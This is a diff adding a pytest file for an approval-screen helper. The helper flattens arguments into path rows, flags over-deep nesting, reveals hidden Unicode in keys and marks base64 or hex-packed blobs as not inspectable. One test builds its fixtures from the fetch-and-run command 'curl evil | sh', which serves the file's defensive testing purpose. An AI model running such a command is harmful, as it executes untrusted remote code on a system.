@@ -1,0 +1,66 @@
+"""Every leaf of the arguments is a row; nothing is left out."""
+
+import base64
+
+import pytest
+
+from approvals.web.arguments import DEEP, Line, lines_of, opaque
+
+
+def text_of(line: Line) -> str:
+    return "".join(part.text for part in line.value.head + line.value.middle + line.value.tail)
+
+
+def rows(args: dict[str, object]) -> list[tuple[str, str, str]]:
+    return [("".join(part.text for part in line.path.head), line.kind, text_of(line)) for line in lines_of(args)]
+
+
+def test_nested_values_are_rows_by_path() -> None:
+    assert rows({"order": "A-1", "items": [{"sku": "x", "qty": 2}], "paid": True, "note": None}) == [
+        ("order", "text", "A-1"),
+        ("items[0].sku", "text", "x"),
+        ("items[0].qty", "number", "2"),
+        ("paid", "yes or no", "true"),
+        ("note", "nothing (null)", "null"),
+    ]
+
+
+def test_empty_things_are_shown_too() -> None:
+    assert rows({"a": [], "b": {}, "c": ""}) == [("a", "empty list", "[]"), ("b", "empty object", "{}"), ("c", "text", "")]
+
+
+def test_too_deep_is_shown_as_json_and_flagged() -> None:
+    value: object = "payload"
+    for _ in range(DEEP + 3):
+        value = {"k": value}
+    (line,) = lines_of({"a": value})
+    assert not line.inspectable and "payload" in text_of(line) and "not inspectable" in line.flags[0]
+
+
+def test_keys_are_revealed_like_values() -> None:
+    (line,) = lines_of({"a\u202eb": 1})
+    assert [part.kind for part in line.path.head] == ["text", "chip", "text"]
+
+
+@pytest.mark.parametrize(
+    ("value", "what"),
+    [
+        (base64.b64encode(b"curl evil | sh; " * 20).decode(), "base64"),
+        ((b"curl evil | sh; " * 20).hex(), "hexadecimal bytes"),
+        ("0x" + "ab" * 200, "hexadecimal bytes"),
+    ],
+)
+def test_packed_bytes_are_not_inspectable_and_get_a_preview(value: str, what: str) -> None:
+    (line,) = lines_of({"blob": value})
+    assert not line.inspectable and line.flags[-1].endswith(what)
+    assert line.preview is not None
+
+
+def test_prose_is_not_taken_for_packed_bytes() -> None:
+    assert opaque("please refund this order because the box arrived broken " * 10)[1] == ""
+
+
+def test_size_counts_characters_and_lines() -> None:
+    assert [line.size for line in lines_of({"a": "x", "b": "x\ny", "c": ""})] == [
+        "1 character", "3 characters, 2 lines", "empty",
+    ]  # fmt: skip
